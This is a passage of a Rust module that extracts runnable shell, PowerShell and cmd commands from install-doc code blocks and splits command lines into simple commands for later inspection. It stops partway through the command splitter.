//! Turning the text of a code block into runnable commands, and splitting a command into words.
//!
//! Install docs show commands the way a terminal shows them: after a prompt (`$ `, `# ` for
//! root, `PS> `), wrapped with `\`, mixed with their output, with heredocs spanning lines.
//! Running them needs the opposite: one string per command, prompt gone, pieces joined, output
//! dropped, heredocs whole. The rules here follow what a reader of the doc would type.
//!
//! The word splitter ([`simple_commands`]) is deliberately small: it knows quotes, pipes,
//! `&&`/`||`/`;`, redirections, `$(…)` and heredocs — enough to tell which programs a command
//! runs. It is not a shell and never decides anything about safety (that is the policy's job).

use super::Shell;

/// What a code block's language says about its text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum BlockLanguage {
    /// A script: every line is shell, `#` lines are comments, prompts are unusual.
    Script(Shell),
    /// A terminal transcript (`console`, `shell-session`): lines after a prompt are commands,
    /// `# ` is the root prompt, every other line is output.
    Session(Shell),
    /// No language (or an indented block): commands if the first line looks like one.
    Untyped,
    /// Data or output (`yaml`, `json`, `text`, `diff`, ...): never commands.
    Data,
}

/// The language of an info string: its first word, lowercased, without braces, a leading dot
/// or a `language-` prefix (`{.sh}` → `sh`, `bash title="x"` → `bash`).
pub(crate) fn language_of(info: &str) -> Option<String> {
    let first = info
        .split(|character: char| character.is_whitespace() || character == ',')
        .find(|word| !word.is_empty())?;
    let cleaned = first
        .trim_matches(|character| character == '{' || character == '}')
        .trim_start_matches('.');
    let cleaned = cleaned.strip_prefix("language-").unwrap_or(cleaned);
    (!cleaned.is_empty()).then(|| cleaned.to_ascii_lowercase())
}

/// Classifies a block by its language.
pub(crate) fn block_language(language: Option<&str>) -> BlockLanguage {
    match language {
        None | Some("") => BlockLanguage::Untyped,
        Some(
            "sh" | "bash" | "zsh" | "ksh" | "dash" | "fish" | "shell" | "shellscript"
            | "bash-script" | "posix" | "nushell" | "nu",
        ) => BlockLanguage::Script(Shell::Sh),
        Some(
            "console" | "shell-session" | "shellsession" | "sh-session" | "bash-session"
            | "zsh-session" | "terminal" | "session" | "command-line" | "commandline" | "cli"
            | "prompt",
        ) => BlockLanguage::Session(Shell::Sh),
        Some("powershell" | "pwsh" | "ps1" | "ps" | "posh" | "psm1") => {
            BlockLanguage::Script(Shell::PowerShell)
        }
        Some("pwsh-session" | "ps1con" | "powershell-session" | "pscon") => {
            BlockLanguage::Session(Shell::PowerShell)
        }
        Some("cmd" | "bat" | "batch" | "dos" | "winbatch" | "cmd.exe") => {
            BlockLanguage::Script(Shell::Cmd)
        }
        Some("doscon") => BlockLanguage::Session(Shell::Cmd),
        Some(_) => BlockLanguage::Data,
    }
}

/// One command found in a block.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Extracted {
    pub text: String,
    /// 0-based line of the command's first line within the block.
    pub line: usize,
    pub root: bool,
    pub shell: Shell,
    /// The comment line just above the command, if any.
    pub note: Option<String>,
}

/// The commands of one block.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Extraction {
    pub commands: Vec<Extracted>,
    /// The shell of the block's commands; `None` when the block holds no commands.
    pub shell: Option<Shell>,
    /// Heredocs still open at the end of the block: (delimiter, 0-based line of the command).
    pub unterminated_heredocs: Vec<(String, usize)>,
}

/// The kind of prompt in front of a line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Prompt {
    User,
    Root,
    PowerShell,
    Cmd,
}

/// A pending heredoc: the delimiter that closes it, and whether leading tabs are ignored.
#[derive(Debug, Clone)]
struct Heredoc {
    delimiter: String,
    strip_tabs: bool,
}

/// How the next line continues the command being read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Continuation {
    /// The command is complete.
    None,
    /// Joined with one space (`\`, a trailing `|`/`&&`/`||`, a PowerShell backtick).
    Join,
    /// Joined with a line break (an open quote, an open `if`/`for`/`case`).
    LineBreak,
}

/// A command being read, possibly over several lines.
#[derive(Debug)]
struct Pending {
    text: String,
    line: usize,
    root: bool,
    shell: Shell,
    note: Option<String>,
    heredocs: Vec<Heredoc>,
    continuation: Continuation,
    /// The quote left open at the end of the last line, if any.
    open_quote: Option<char>,
    /// Depth of `if`/`for`/`while`/`case`/`{` not yet closed.
    compound_depth: i32,
}

/// Extracts the commands from a code block's text.
pub(crate) fn extract_block(text: &str, language: Option<&str>) -> Extraction {
    let kind = block_language(language);
    let lines: Vec<&str> = text.lines().collect();
    let (block_shell, session) = match kind {
        BlockLanguage::Data => return Extraction::default(),
        BlockLanguage::Script(shell) => (shell, false),
        BlockLanguage::Session(shell) => (shell, true),
        BlockLanguage::Untyped => {
            if !untyped_block_is_commands(&lines) {
                return Extraction::default();
            }
            (Shell::Sh, false)
        }
    };
    let prompted = block_uses_prompts(&lines, kind);
    let mut reader = BlockReader {
        session,
        prompted,
        block_shell,
        pending: None,
        note: None,
        extraction: Extraction::default(),
    };
    for (index, line) in lines.iter().enumerate() {
        reader.line(index, line);
    }
    reader.finish();
    let mut extraction = reader.extraction;
    if !extraction.commands.is_empty() {
        extraction.shell = Some(
            extraction
                .commands
                .iter()
                .map(|command| command.shell)
                .find(|shell| *shell != Shell::Sh)
                .unwrap_or(block_shell),
        );
    }
    extraction
}

/// Line-by-line state of [`extract_block`].
struct BlockReader {
    session: bool,
    prompted: bool,
    block_shell: Shell,
    pending: Option<Pending>,
    note: Option<String>,
    extraction: Extraction,
}

impl BlockReader {
    fn line(&mut self, index: usize, line: &str) {
        if let Some(mut pending) = self.pending.take() {
            if !pending.heredocs.is_empty() {
                let body = if self.prompted {
                    strip_secondary_prompt(line)
                } else {
                    line
                };
                pending.text.push('\n');
                pending.text.push_str(body);
                let closes = pending.heredocs.first().is_some_and(|heredoc| {
                    let candidate = if heredoc.strip_tabs {
                        body.trim_start_matches('\t')
                    } else {
                        body
                    };
                    candidate.trim_end() == heredoc.delimiter
                });
                if closes {
                    pending.heredocs.remove(0);
                }
                self.settle(pending);
                return;
            }
            if pending.continuation != Continuation::None {
                let body = if self.prompted {
                    strip_secondary_prompt(line)
                } else {
                    line
                };
                match pending.continuation {
                    Continuation::Join => {
                        let trimmed_length = pending.text.trim_end().len();
                        pending.text.truncate(trimmed_length);
                        pending.text.push(' ');
                        scan_line(&mut pending, body.trim_start());
                    }
                    _ => {
                        pending.text.push('\n');
                        scan_line(&mut pending, body);
                    }
                }
                self.settle(pending);
                return;
            }
            self.emit(pending);
        }

        let trimmed = line.trim();
        if trimmed.is_empty() {
            return;
        }
        let (root, shell, rest) = if self.prompted {
            match self.strip_prompt(line) {
                Some((prompt, rest)) => {
                    let shell = match prompt {
                        Prompt::PowerShell => Shell::PowerShell,
                        Prompt::Cmd if self.block_shell != Shell::PowerShell => Shell::Cmd,
                        _ => self.block_shell,
                    };
                    (prompt == Prompt::Root, shell, rest)
                }
                // Without a prompt, in a block that uses prompts, a line is output.
                None => return,
            }
        } else {
            if let Some(comment) = self.comment_text(trimmed) {
                self.note = (!comment.is_empty()).then(|| comment.to_string());
                return;
            }
            (false, self.block_shell, trimmed)
        };
        let rest = rest.trim();
        if rest.is_empty() {
            return;
        }
        if let Some(comment) = rest.strip_prefix('#') {
            // `$ # comment`: a remark, not a command.
            let comment = comment.trim();
            self.note = (!comment.is_empty()).then(|| comment.to_string());
            return;
        }
        let mut pending = Pending {
            text: String::new(),
            line: index,
            root,
            shell,
            note: self.note.take(),
            heredocs: Vec::new(),
            continuation: Continuation::None,
            open_quote: None,
            compound_depth: 0,
        };
        scan_line(&mut pending, rest);
        self.settle(pending);
    }

    /// Emits the command if it is complete, else keeps reading it.
    fn settle(&mut self, pending: Pending) {
        if pending.heredocs.is_empty() && pending.continuation == Continuation::None {
            self.emit(pending);
        } else {
            self.pending = Some(pending);
        }
    }

    fn emit(&mut self, pending: Pending) {
        let text = pending.text.trim_end().to_string();
        if text.is_empty() {
            return;
        }
        self.extraction.commands.push(Extracted {
            text,
            line: pending.line,
            root: pending.root,
            shell: pending.shell,
            note: pending.note,
        });
    }

    fn finish(&mut self) {
        if let Some(pending) = self.pending.take() {
            for heredoc in &pending.heredocs {
                self.extraction
                    .unterminated_heredocs
                    .push((heredoc.delimiter.clone(), pending.line));
            }
            self.emit(pending);
        }
    }

    /// The comment text of a comment line in an unprompted block, `None` for other lines.
    fn comment_text<'a>(&self, trimmed: &'a str) -> Option<&'a str> {
        match self.block_shell {
            Shell::Cmd => {
                let lower = trimmed.to_ascii_lowercase();
                if lower == "rem" || lower.starts_with("rem ") {
                    Some(trimmed[3..].trim())
                } else {
                    trimmed.strip_prefix("::").map(str::trim)
                }
            }
            Shell::Sh | Shell::PowerShell => {
                let comment = trimmed.strip_prefix('#')?;
                // An untyped block's `# apt install x` is the root prompt of the Arch wiki
                // style; `untyped_block_is_commands` already saw it, `strip_prompt` never runs
                // here because such blocks count as prompted.
                Some(comment.trim_start_matches('#').trim())
            }
        }
    }

    /// Splits a line into its prompt and the rest, if it starts with a prompt this block uses.
    fn strip_prompt<'a>(&self, line: &'a str) -> Option<(Prompt, &'a str)> {
        let (prompt, rest) = strong_prompt(line).or_else(|| {
            let trimmed = line.trim_start();
            if let Some(rest) = trimmed
                .strip_prefix("# ")
                .or_else(|| (trimmed == "#").then_some(""))
            {
                // A root prompt in a transcript; elsewhere only when a command follows (a
                // comment line in a prompted script block is dropped like output).
                if !reads_like_prose(rest) && (self.session || looks_like_command(rest)) {
                    return Some((Prompt::Root, rest));
                }
                return None;
            }
            if let Some(rest) = trimmed
                .strip_prefix("> ")
                .or_else(|| (trimmed == ">").then_some(""))
            {
                let prompt = match self.block_shell {
                    Shell::PowerShell => Prompt::PowerShell,
                    Shell::Cmd => Prompt::Cmd,
                    Shell::Sh => Prompt::User,
                };
                return Some((prompt, rest));
            }
            None
        })?;
        Some((prompt, rest))
    }
}

/// Recognizes the prompts that cannot be mistaken for anything else: `$ `, `% `, `PS> `,
/// `PS C:\path> `, `C:\path> `, `user@host:~$ `, `~/dir$ `, `[user@host dir]$ `.
fn strong_prompt(line: &str) -> Option<(Prompt, &str)> {
    let trimmed = line.trim_start();
    if trimmed == "$" || trimmed == "%" {
        return Some((Prompt::User, ""));
    }
    if let Some(rest) = trimmed
        .strip_prefix("$ ")
        .or_else(|| trimmed.strip_prefix("% "))
    {
        return Some((Prompt::User, rest));
    }
    if let Some(after) = trimmed.strip_prefix("PS") {
        if let Some(rest) = after.strip_prefix('>') {
            return Some((Prompt::PowerShell, rest.strip_prefix(' ').unwrap_or(rest)));
        }
        if after.starts_with(' ')
            && let Some(end) = after.find('>')
        {
            let path = after[..end].trim();
            if !path.is_empty() && !path.contains(' ') {
                let rest = &after[end + 1..];
                return Some((Prompt::PowerShell, rest.strip_prefix(' ').unwrap_or(rest)));
            }
        }
    }
    let bytes = trimmed.as_bytes();
    if bytes.len() >= 3
        && bytes[0].is_ascii_alphabetic()
        && bytes[1] == b':'
        && bytes[2] == b'\\'
        && let Some(end) = trimmed.find('>')
        && !trimmed[..end].contains(' ')
    {
        let rest = &trimmed[end + 1..];
        return Some((Prompt::Cmd, rest.strip_prefix(' ').unwrap_or(rest)));
    }
    if trimmed.starts_with('[') {
        for (marker, prompt) in [("]$ ", Prompt::User), ("]# ", Prompt::Root)] {
            if let Some(end) = trimmed.find(marker)
                && (trimmed[..end].contains('@') || trimmed[..end].contains(' '))
            {
                return Some((prompt, &trimmed[end + marker.len()..]));
            }
        }
    }
    let (token, rest) = trimmed.split_once(' ')?;
    if token.len() < 2 {
        return None;
    }
    let last = token.chars().last()?;
    let prompt = match last {
        '$' | '%' => Prompt::User,
        '#' => Prompt::Root,
        _ => return None,
    };
    let body = &token[..token.len() - 1];
    let shaped_like_prompt = body.starts_with('~')
        || (body.contains('@')
            && body
                .chars()
                .all(|character| character.is_alphanumeric() || "@:~/._-".contains(character)));
    shaped_like_prompt.then_some((prompt, rest))
}

/// `Install the tool` after a `#`: a capitalised word, as a sentence starts, is a comment even
/// in a transcript (programs are rarely capitalised).
fn reads_like_prose(text: &str) -> bool {
    let first = text.split_whitespace().next().unwrap_or_default();
    let mut characters = first.chars();
    characters.next().is_some_and(|c| c.is_ascii_uppercase())
        && characters.as_str().chars().all(|c| c.is_ascii_lowercase())
        && !characters.as_str().is_empty()
}

/// Removes the `> ` secondary prompt a terminal shows on continuation lines.
fn strip_secondary_prompt(line: &str) -> &str {
    let trimmed = line.trim_start();
    if trimmed == ">" {
        ""
    } else {
        trimmed.strip_prefix("> ").unwrap_or(line)
    }
}

/// Whether a block shows prompts, so that its lines without one are output.
fn block_uses_prompts(lines: &[&str], kind: BlockLanguage) -> bool {
    let content: Vec<&str> = lines
        .iter()
        .map(|line| line.trim())
        .filter(|line| !line.is_empty())
        .collect();
    if content.iter().any(|line| strong_prompt(line).is_some()) {
        return true;
    }
    let root_prompt = |line: &&str| line.strip_prefix("# ").is_some_and(looks_like_command);
    match kind {
        BlockLanguage::Session(_) => content
            .iter()
            .any(|line| line.starts_with("# ") || line.starts_with("> ")),
        BlockLanguage::Script(Shell::Sh) => {
            // `# apt install x` alone in a script block is a root prompt, not a comment: only
            // when every line is such a `#` line and at least one is clearly a command.
            content.iter().all(|line| line.starts_with('#')) && content.iter().any(root_prompt)
        }
        BlockLanguage::Script(_) => content.first().is_some_and(|line| line.starts_with("> ")),
        BlockLanguage::Untyped => {
            content.iter().any(root_prompt)
                || content
                    .first()
                    .is_some_and(|line| line.strip_prefix("> ").is_some_and(looks_like_command))
        }
        BlockLanguage::Data => false,
    }
}

/// An untyped block holds commands when its first meaningful line is one.
fn untyped_block_is_commands(lines: &[&str]) -> bool {
    for line in lines {
        let trimmed = line.trim();
        if trimmed.is_empty() {
            continue;
        }
        if let Some((_, rest)) = strong_prompt(trimmed) {
            return looks_like_command(rest) || !rest.trim().is_empty();
        }
        if let Some(rest) = trimmed
            .strip_prefix("# ")
            .or_else(|| trimmed.strip_prefix("> "))
        {
            if looks_like_command(rest) {
                return true;
            }
            continue;
        }
        return looks_like_command(trimmed);
    }
    false
}

/// Reads one line of a command: appends it, notes heredocs it opens, strips a trailing comment,
/// and decides how the next line continues it.
fn scan_line(pending: &mut Pending, line: &str) {
    let shell = pending.shell;
    let characters: Vec<char> = line.chars().collect();
    let mut kept = String::with_capacity(line.len());
    let mut quote = pending.open_quote;
    let mut index = 0;
    let mut at_word_start = true;
    let mut command_position = pending.text.is_empty() || pending.compound_depth > 0;
    let mut word = String::new();
    let mut heredocs = Vec::new();
    let mut depth = pending.compound_depth;
    while index < characters.len() {
        let character = characters[index];
        if let Some(open) = quote {
            kept.push(character);
            if character == '\\' && open == '"' && shell == Shell::Sh {
                if let Some(next) = characters.get(index + 1) {
                    kept.push(*next);
                    index += 2;
                    continue;
                }
            } else if character == open {
                quote = None;
            }
            index += 1;
            continue;
        }
        match character {
            '\'' | '"' => {
                quote = Some(character);
                word.push(character);
                kept.push(character);
                at_word_start = false;
            }
            '\\' if shell == Shell::Sh => {
                kept.push(character);
                if let Some(next) = characters.get(index + 1) {
                    kept.push(*next);
                    word.push(*next);
                    index += 1;
                }
                at_word_start = false;
            }
            '#' if at_word_start && shell != Shell::Cmd => {
                // A comment runs to the end of the line; drop it.
                break;
            }
            '<' if shell == Shell::Sh
                && characters.get(index + 1) == Some(&'<')
                && characters.get(index + 2) != Some(&'<') =>
            {
                let start = index;
                index += 2;
                let strip_tabs = characters.get(index) == Some(&'-');
                if strip_tabs {
                    index += 1;
                }
                while characters
                    .get(index)
                    .is_some_and(|c| *c == ' ' || *c == '\t')
                {
                    index += 1;
                }
                let mut delimiter = String::new();
                while let Some(&next) = characters.get(index) {
                    if next == '\'' || next == '"' {
                        let close = next;
                        index += 1;
                        while let Some(&inner) = characters.get(index) {
                            index += 1;
                            if inner == close {
                                break;
                            }
                            delimiter.push(inner);
                        }
                        continue;
                    }
                    if next.is_whitespace() || ";|&<>()".contains(next) {
                        break;
                    }
                    if next != '\\' {
                        delimiter.push(next);
                    }
                    index += 1;
                }
                kept.extend(&characters[start..index]);
                if !delimiter.is_empty() {
                    heredocs.push(Heredoc {
                        delimiter,
                        strip_tabs,
                    });
                }
                at_word_start = false;
                continue;
            }
            ' ' | '\t' => {
                finish_word(&mut word, &mut command_position, &mut depth);
                kept.push(character);
                at_word_start = true;
            }
            ';' | '|' | '&' | '(' | ')' => {
                finish_word(&mut word, &mut command_position, &mut depth);
                kept.push(character);
                at_word_start = true;
                command_position = true;
            }
            _ => {
                word.push(character);
                kept.push(character);
                at_word_start = false;
            }
        }
        index += 1;
    }
    if quote.is_none() {
        finish_word(&mut word, &mut command_position, &mut depth);
    }
    let mut kept = kept.trim_end().to_string();
    let continuation = if quote.is_some() {
        Continuation::LineBreak
    } else if ends_with_continuation_character(&kept, shell) {
        kept.pop();
        let trimmed_length = kept.trim_end().len();
        kept.truncate(trimmed_length);
        Continuation::Join
    } else if ends_with_operator(&kept, shell) {
        Continuation::Join
    } else if depth > 0 && shell == Shell::Sh {
        Continuation::LineBreak
    } else {
        Continuation::None
    };
    pending.text.push_str(&kept);
    pending.open_quote = quote;
    pending.compound_depth = depth.max(0);
    pending.heredocs.extend(heredocs);
    pending.continuation = continuation;
}

/// Counts `if`/`fi` and friends as a word ends, to keep compound commands together.
fn finish_word(word: &mut String, command_position: &mut bool, depth: &mut i32) {
    if word.is_empty() {
        return;
    }
    if *command_position {
        match word.as_str() {
            "if" | "for" | "while" | "until" | "case" | "select" | "{" => *depth += 1,
            "fi" | "done" | "esac" | "}" => *depth -= 1,
            _ => {}
        }
    }
    *command_position = matches!(
        word.as_str(),
        "then" | "do" | "else" | "elif" | "{" | "if" | "while" | "until" | "!" | "time"
    );
    word.clear();
}

/// `\` (sh), a backtick (PowerShell) or `^` (cmd) as the last character continues the line.
fn ends_with_continuation_character(text: &str, shell: Shell) -> bool {
    match shell {
        Shell::Sh => {
            let backslashes = text.chars().rev().take_while(|c| *c == '\\').count();
            backslashes % 2 == 1
        }
        Shell::PowerShell => text.ends_with('`'),
        Shell::Cmd => text.ends_with('^'),
    }
}

/// A line ending in a pipe or `&&`/`||` goes on on the next line.
fn ends_with_operator(text: &str, shell: Shell) -> bool {
    match shell {
        Shell::Sh => text.ends_with("&&") || text.ends_with('|'),
        Shell::PowerShell => text.ends_with('|') || text.ends_with("&&") || text.ends_with("||"),
        Shell::Cmd => false,
    }
}

/// Words that start commands in install docs. A line starting with one of them (after `sudo`
/// and variable assignments) is taken for a command.
#[rustfmt::skip]
const COMMAND_WORDS: &[&str] = &[
    // system package managers
    "apt", "apt-get", "aptitude", "dpkg", "add-apt-repository", "apt-key", "dnf", "yum",
    "microdnf", "rpm", "rpm-ostree", "pacman", "yay", "paru", "apk", "zypper", "emerge",
    "xbps-install", "pkg", "brew", "port", "nix", "nix-env", "nix-shell", "nix-channel", "snap",
    "flatpak", "winget", "scoop", "choco", "guix",
    // language package managers and toolchains
    "cargo", "rustup", "pip", "pip3", "pipx", "uv", "uvx", "python", "python3", "py", "npm", "npx",
    "pnpm", "yarn", "bun", "node", "deno", "go", "gem", "bundle", "conda", "mamba", "micromamba",
    "composer", "dotnet", "stack", "cabal", "opam", "luarocks", "mvn", "gradle",
    // fetching, unpacking, building
    "curl", "wget", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "git", "tar", "unzip",
    "gunzip", "xz", "gpg", "make", "cmake", "ninja", "meson", "autoreconf", "bazel", "docker",
    "podman", "kubectl", "helm",
    // shell and file handling seen in install steps
    "sudo", "doas", "su", "sh", "bash", "zsh", "fish", "cd", "mkdir", "cp", "mv", "ln", "rm",
    "chmod", "chown", "install", "echo", "printf", "export", "source", "cat", "tee", "touch", "ls",
    "which", "command", "type", "systemctl", "service", "update-alternatives", "ldconfig",
    "set-executionpolicy", "get-command", "new-item", "setx",
];

/// Whether a word is a known command word.
pub(crate) fn is_command_word(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    COMMAND_WORDS.contains(&lower.as_str())
}

/// Flags that show a version or help: `X --version` is a command whatever X is.
const VERSION_FLAGS: &[&str] = &["--version", "-V", "version", "--help", "-version"];

/// Whether a word could be a program name (`rg`, `fd-find`, `python3.11`, `./tool`).
fn is_program_name(word: &str) -> bool {
    let name = word
        .strip_prefix("./")
        .or_else(|| word.rsplit('/').next())
        .unwrap_or(word);
    !name.is_empty()
        && name.len() <= 40
        && name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric())
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._+-".contains(c))
}

/// Whether a line of a code block looks like a command: it starts (after `sudo` and variable
/// assignments) with a known command word or a path, or it is `<program> --version`.
pub(crate) fn looks_like_command(line: &str) -> bool {
    let words: Vec<&str> = line.split_whitespace().collect();
    let Some(first) = words
        .iter()
        .find(|word| !is_assignment(word) && !matches!(**word, "sudo" | "env" | "doas"))
    else {
        // `sudo` alone or only assignments.
        return words.first().is_some_and(|word| *word == "sudo");
    };
    if is_command_word(first) {
        return true;
    }
    // A program run by path; a lone absolute path is more likely output (`/etc/apt`).
    let by_path = first.starts_with("./") || first.starts_with("~/") || first.starts_with('/');
    if by_path && first.len() > 2 && (words.len() > 1 || !first.starts_with('/')) {
        return true;
    }
    words.len() == 2 && is_program_name(words[0]) && VERSION_FLAGS.contains(&words[1])
}

/// `NAME=value`: a variable assignment in front of a command.
pub(crate) fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

/// Words that make inline code a command on their own, whatever the arguments.
#[rustfmt::skip]
const INLINE_COMMAND_WORDS: &[&str] = &[
    "sudo", "apt", "apt-get", "aptitude", "dnf", "yum", "pacman", "yay", "paru", "apk", "zypper",
    "emerge", "brew", "port", "snap", "flatpak", "winget", "scoop", "choco", "nix-env",
    "nix-shell", "curl", "wget", "pipx", "rustup", "uvx", "npx", "iwr", "irm", "dpkg",
    "add-apt-repository",
];

/// Words that make inline code a command only with a given next word.
const INLINE_COMMAND_PAIRS: &[(&str, &[&str])] = &[
    ("cargo", &["install", "binstall", "build"]),
    ("pip", &["install"]),
    ("pip3", &["install"]),
    ("npm", &["install", "i", "add"]),
    ("pnpm", &["add", "install", "i"]),
    ("yarn", &["global", "add"]),
    ("bun", &["add", "install", "i"]),
    ("go", &["install", "get"]),
    ("gem", &["install"]),
    ("uv", &["tool", "pip"]),
    ("nix", &["profile", "run", "shell", "install"]),
    ("conda", &["install"]),
    ("mamba", &["install"]),
    ("git", &["clone"]),
    ("make", &["install"]),
    ("docker", &["run", "pull"]),
    ("podman", &["run", "pull"]),
    ("python", &["-m"]),
    ("python3", &["-m"]),
];

/// Recognizes inline code that is clearly a command: it starts with a known command word and
/// has arguments, or it is `<program> --version`. A bare word (`jq`), a path, a flag, or a
/// generic template (`apt install <package>`) is not a command. Returns the command text.
pub(crate) fn inline_command(code: &str) -> Option<String> {
    let trimmed = code.trim();
    let text = strong_prompt(trimmed)
        .map(|(_, rest)| rest.trim())
        .unwrap_or(trimmed);
    if text.contains('\n') || !text.contains(' ') {
        return None;
    }
    if is_template(text) {
        return None;
    }
    let words: Vec<&str> = text.split_whitespace().collect();
    let first = words.first()?.to_ascii_lowercase();
    if INLINE_COMMAND_WORDS.contains(&first.as_str()) {
        return Some(text.to_string());
    }
    if let Some((_, seconds)) = INLINE_COMMAND_PAIRS.iter().find(|(word, _)| *word == first) {
        let second = words.get(1)?;
        return seconds.contains(second).then(|| text.to_string());
    }
    if words.len() == 2 && is_program_name(words[0]) && VERSION_FLAGS.contains(&words[1]) {
        return Some(text.to_string());
    }
    None
}

/// A generic example rather than a runnable command: `<package>`, `[options]`, `...`.
fn is_template(text: &str) -> bool {
    if text.contains("...") || text.contains('…') {
        return true;
    }
    let characters: Vec<char> = text.chars().collect();
    characters.windows(2).enumerate().any(|(index, pair)| {
        let opens = pair[0] == '<' || pair[0] == '[';
        let close = if pair[0] == '<' { '>' } else { ']' };
        opens
            && pair[1].is_ascii_alphabetic()
            && characters[index + 1..]
                .iter()
                .take_while(|c| **c != ' ')
                .any(|c| *c == close)
            && !text.contains("[signed-by")
            && !text.contains("[arch=")
    })
}

/// One simple command of a command line: its words (quotes removed), the targets of its
/// redirections, and whether its output is piped into the next one.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct SimpleCommand {
    pub words: Vec<String>,
    pub redirects: Vec<String>,
    pub piped: bool,
}

impl SimpleCommand {
    /// The words after the prefixes that only change how a program runs: variable assignments,
    /// `sudo` (and its options), `env`, `doas`, `time`, `nohup`, `exec`, `command`.
    pub fn program_words(&self) -> &[String] {
        let mut index = 0;
        while let Some(word) = self.words.get(index) {
            if is_assignment(word) {
                index += 1;
                continue;
            }
            match word.as_str() {
                "sudo" | "doas" => {
                    index += 1;
                    // Options of sudo; `-u user` takes a value.
                    while let Some(option) = self.words.get(index) {
                        if !option.starts_with('-') {
                            break;
                        }
                        index += if matches!(option.as_str(), "-u" | "-g" | "-C" | "-D") {
                            2
                        } else {
                            1
                        };
                    }
                }
                "env" | "time" | "nohup" | "exec" | "command" | "builtin" | "nice" => {
                    index += 1;
                    while self
                        .words
                        .get(index)
                        .is_some_and(|option| option.starts_with('-'))
                    {
                        index += 1;
                    }
                }
                _ => break,
            }
        }
        &self.words[index.min(self.words.len())..]
    }

    /// Whether the command runs through `sudo` or `doas`.
    pub fn uses_sudo(&self) -> bool {
        self.words
            .iter()
            .take_while(|word| {
                is_assignment(word) || matches!(word.as_str(), "sudo" | "doas" | "env")
            })
            .any(|word| word == "sudo" || word == "doas")
    }
}

/// Splits a command line into simple commands (at `|`, `&&`, `||`, `;`, `&`, line breaks and
/// parentheses), skipping comments and heredoc bodies.
pub(crate) fn simple_commands(text: &str) -> Vec<SimpleCommand> {
    let characters: &[u8] = text.as_bytes();
    let mut splitter = Splitter::default();
    let mut heredocs: Vec<Heredoc> = Vec::new();
    let mut index = 0;
    while index < characters.len() {
        let character = characters[index];
        let next = characters.get(index + 1).copied();
        match character {
            b' ' | b'\t' | b'\r' => splitter.finish_word(),
            b'\n' => {
                splitter.finish_command(false);
                index += 1;
                for heredoc in heredocs.drain(..) {
                    // Skip the body up to and including the delimiter line.
                    while index < characters.len() {
                        let end = characters[index..]
                            .iter()
                            .position(|c| *c == b'\n')
                            .map_or(characters.len(), |offset| index + offset);
                        let line = std::str::from_utf8(&characters[index..end]).unwrap_or("");
                        index = (end + 1).min(characters.len());
                        let candidate = if heredoc.strip_tabs {
                            line.trim_start_matches('\t')
                        } else {
                            line
                        };
                        if candidate.trim_end() == heredoc.delimiter {
                            break;
                        }
                    }
                }
                continue;
            }
            b'\\' => {
                if let Some(next) = next {
                    if next != b'\n' {
                        splitter.push(next);
                    }
                    index += 1;
                }
            }
            b'\'' => {
                splitter.started_word();
                index += 1;
                while let Some(&inner) = characters.get(index) {
                    if inner == b'\'' {
                        break;
                    }
                    splitter.push(inner);
                    index += 1;
                }
            }
            b'"' => {
                splitter.started_word();
                index += 1;
                while let Some(&inner) = characters.get(index) {
                    if inner == b'"' {
                        break;
                    }
                    if inner == b'\\'
                        && let Some(&escaped) = characters.get(index + 1)
                    {
                        splitter.push(escaped);
                        index += 2;
                        continue;
                    }
                    splitter.push(inner);
                    index += 1;
                }
            }
            b'#' if !splitter.in_word => {
                while characters.get(index + 1).is_some_and(|c| *c != b'\n') {
                    index += 1;
                }
            }
            b'|' => {
                if next == Some(b'|') {
                    splitter.finish_command(false);
                    index += 1;
                } else {
                    splitter.finish_command(true);
                    if next == Some(b'&') {
                        index += 1;
                    }
                }
            }
            b'&' => {
                if next == Some(b'&') {
                    splitter.finish_command(false);
                    index += 1;
                } else if next == Some(b'>') {
                    splitter.finish_word();
                    splitter.redirect_next = true;
                    index += 1;
                    if characters.get(index + 1) == Some(&b'>') {
                        index += 1;
                    }
                } else {
                    splitter.finish_command(false);
                }
            }
            b';' | b'(' | b')' | b'{' | b'}' if !splitter.in_word => splitter.finish_command(false),
            b';' | b')' => splitter.finish_command(false),
            b'$' if next == Some(b'(') => {
                let end = balanced_end(characters, index + 1);
                for inner in &characters[index..end] {
                    splitter.push(*inner);
                }
                index = end;
                continue;
            }
            b'<' if next == Some(b'(') => {
                let end = balanced_end(characters, index + 1);
                for inner in &characters[index..end] {
                    splitter.push(*inner);
                }
                index = end;
                continue;
            }
            b'<' if next == Some(b'<') && characters.get(index + 2) != Some(&b'<') => {
                splitter.finish_word();
                index += 2;
                let strip_tabs = characters.get(index) == Some(&b'-');
                if strip_tabs {
                    index += 1;
                }
                while characters
                    .get(index)
                    .is_some_and(|c| *c == b' ' || *c == b'\t')
                {
                    index += 1;
                }
                let mut delimiter_bytes = Vec::new();
                while let Some(&inner) = characters.get(index) {
                    if inner.is_ascii_whitespace() || b";|&<>()".contains(&inner) {
                        break;
                    }
                    if !b"'\"\\".contains(&inner) {
                        delimiter_bytes.push(inner);
                    }
                    index += 1;
                }
                let delimiter = bytes_to_string(delimiter_bytes);
                if !delimiter.is_empty() {
                    heredocs.push(Heredoc {
                        delimiter,
                        strip_tabs,
                    });
                }
                continue;
            }
            b'<' | b'>' => {
                if splitter.word.iter().all(|c| c.is_ascii_digit()) && splitter.in_word {
                    // `2>`: the digits name a file descriptor, not an argument.
                    splitter.word.clear();
                    splitter.in_word = false;
                }
                splitter.finish_word();
                while characters
                    .get(index + 1)
                    .is_some_and(|c| *c == b'>' || *c == b'<')
                {
                    index += 1;
                }
                if characters.get(index + 1) == Some(&b'&') {
                    // `2>&1`: a descriptor copy, no file.
                    index += 1;
                    while characters
                        .get(index + 1)
                        .is_some_and(|c| c.is_ascii_digit() || *c == b'-')
                    {
